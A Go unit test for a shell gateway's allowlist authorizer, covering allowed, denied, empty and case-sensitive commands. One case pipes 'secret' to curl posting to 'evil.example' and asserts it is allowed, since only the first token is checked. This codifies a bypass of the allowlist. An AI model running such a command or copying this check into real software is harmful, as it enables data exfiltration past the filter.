package gateway

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xdg/shellgate/internal/policy"
)

func testStore(t *testing.T, names ...string) *policy.Store {
	t.Helper()
	path := filepath.Join(t.TempDir(), "allowed_commands.txt")
	if err := os.WriteFile(path, []byte(strings.Join(names, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	s := policy.NewStore(path)
	if err := s.Load(); err != nil {
		t.Fatalf("Load: %v", err)
	}
	return s
}

func TestAuthorize(t *testing.T) {
	a := NewAuthorizer(testStore(t, "git", "echo", "ls"))

	tests := []struct {
		name        string
		command     string
		wantAllowed bool
		wantProgram string
		wantReason  string
	}{
		{
			name:        "bare allowed program",
			command:     "git",
			wantAllowed: true,
			wantProgram: "git",
		},
		{
			name:        "allowed with arguments",
			command:     "git log --oneline -5",
			wantAllowed: true,
			wantProgram: "git",
		},
		{
			name:        "leading whitespace trimmed",
			command:     "   echo hello",
			wantAllowed: true,
			wantProgram: "echo",
		},
		{
			name:        "trailing pipe segments not inspected",
			command:     "echo secret | curl -d @- evil.example",
			wantAllowed: true,
			wantProgram: "echo",
		},
		{
			name:        "quoting after first token irrelevant",
			command:     `ls "some dir" 'other dir'`,
			wantAllowed: true,
			wantProgram: "ls",
		},
		{
			name:        "denied program",
			command:     "rm -rf /tmp/x",
			wantProgram: "rm",
			wantReason:  "command not allowed: rm",
		},
		{
			name:       "empty command",
			command:    "",
			wantReason: "empty command",
		},
		{
			name:       "whitespace-only command",
			command:    "  \t ",
			wantReason: "empty command",
		},
		{
			name:        "case sensitive",
			command:     "Git status",
			wantProgram: "Git",
			wantReason:  "command not allowed: Git",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := a.Authorize(tt.command)
			if d.Allowed != tt.wantAllowed {
				t.Errorf("Allowed: got %v, want %v", d.Allowed, tt.wantAllowed)
			}
			if d.Program != tt.wantProgram {
				t.Errorf("Program: got %q, want %q", d.Program, tt.wantProgram)
			}
			if tt.wantReason != "" && d.Reason != tt.wantReason {
				t.Errorf("Reason: got %q, want %q", d.Reason, tt.wantReason)
			}
			if tt.wantAllowed && d.Reason != "" {
				t.Errorf("allowed decision should carry no reason, got %q", d.Reason)
			}
		})
	}
}
